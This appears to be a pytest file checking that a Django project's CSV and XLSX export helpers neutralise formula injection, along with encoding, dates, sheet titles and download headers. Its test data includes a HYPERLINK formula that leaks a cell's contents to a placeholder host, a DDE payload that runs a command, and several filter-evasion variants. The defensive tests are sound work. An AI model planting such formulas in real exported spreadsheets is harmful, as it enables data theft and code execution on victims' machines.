"""kit.spreadsheets: every text cell a spreadsheet would read as a formula is neutralised, in CSV and XLSX."""

import csv
import io
from datetime import date, datetime

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from innobelt.kit.spreadsheets import csv_bytes, download, neutralise, sheet_title, xlsx_book, xlsx_bytes

DANGEROUS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
             "  =1+1", "\u3000=1+1", "\x01=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
HARMLESS = ["Alice", "王小明", "1+1", "a=b", "", "'already quoted", "CTO - R&D", "email@example.com"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_is_left_alone(text):
    assert neutralise(text) == text


def test_csv_neutralises_header_and_cells_and_keeps_chinese_readable():
    data = csv_bytes(["=Header", "名字"], [[text, "王小明"] for text in DANGEROUS] + [[None, 42]])
    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel and WPS need for UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["'=Header", "名字"]
    assert [r[0] for r in rows[1:-1]] == ["'" + text for text in DANGEROUS]
    assert rows[-1] == ["", "42"]


def test_xlsx_cells_are_text_never_formulas():
    when = timezone.make_aware(datetime(2026, 5, 12, 9, 30))
    data = xlsx_bytes(["=Header", "When"], [[text, when] for text in DANGEROUS], sheet="A:B/C[1]")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A1"].value == "'=Header" and sheet["A1"].font.b
    assert [sheet.cell(row=n + 2, column=1).value for n in range(len(DANGEROUS))] == [
        "'" + text.replace("\x01", "").replace("\r", "\n") for text in DANGEROUS]  # control characters XLSX cannot hold are
    # dropped; XML reads a CR as a line feed
    assert sheet["B2"].value == datetime(2026, 5, 12, 9, 30)  # a date, in the platform's time zone
    assert sheet.title == "A B C 1" and sheet.freeze_panes == "A2"


def test_xlsx_numbers_and_days_stay_values():
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["n", "day", "none"], [[-3, date(2026, 5, 12), None]]))).worksheets[0]
    assert (sheet["A2"].value, sheet["B2"].value, sheet["B2"].number_format, sheet["C2"].value) == (
        -3, datetime(2026, 5, 12), "yyyy-mm-dd", None)


def test_sheet_titles_fit_the_format():
    assert sheet_title("x" * 40) == "x" * 31 and sheet_title("???") == "Sheet1"


def test_download_is_an_uncached_attachment_with_an_ascii_name():
    response = download(b"a", filename="报名 list.csv", file_format="csv")
    assert response["Content-Disposition"] == 'attachment; filename="---list.csv"'
    assert response["Cache-Control"] == "private, no-store" and response["Content-Type"] == "text/csv; charset=utf-8"


def test_a_book_of_several_sheets_each_written_as_one_and_titles_kept_apart():
    long = "Members by industry (a member may be in several)"
    book = load_workbook(io.BytesIO(xlsx_book([
        ("2026 Q3", ["Figure", "n"], [["Members", 3]]),
        (long, ["Category", "n"], [["=SUM(A1)", 2]]),
        (long, ["Category", "n"], [["plain", 1]]),
    ])))
    assert book.sheetnames == ["2026 Q3", long[:31], long[:29] + " 2"]
    assert [c.value for c in book.worksheets[1][2]] == ["'=SUM(A1)", 2]  # neutralised on every sheet
    assert book.worksheets[1]["A2"].data_type == "s" and book.worksheets[1]["B2"].data_type == "n"
    assert book.worksheets[1]["A1"].font.bold and book.worksheets[2].freeze_panes == "A2"
